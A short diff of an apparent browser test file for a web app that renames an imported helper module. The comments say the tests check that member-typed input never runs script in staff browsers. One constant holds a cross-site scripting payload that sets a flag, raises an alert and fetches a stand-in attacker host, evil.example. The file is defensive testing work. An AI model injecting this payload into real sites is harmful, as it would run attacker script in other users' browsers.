@@ -1,7 +1,7 @@
 // Nothing that a member types acts in the browser of the staff. What is tried in every field, on every page and in every file stands in
 // tests/http/corpus.rs; here a browser reads it, with and without JavaScript.
 import { file } from "./cases.mjs";
-import { address, awake, checked, expect, freshEmail, PASSWORD, REGION, send, signInStaff, signUpBeside, test } from "./house.mjs";
+import { address, awake, checked, expect, freshEmail, PASSWORD, REGION, send, signInStaff, signUpBeside, test } from "./app.mjs";
 
 const PWN = "window.pwned=1;alert(1);fetch('//evil.example/')";
 /** Names, of at most a hundred characters. */
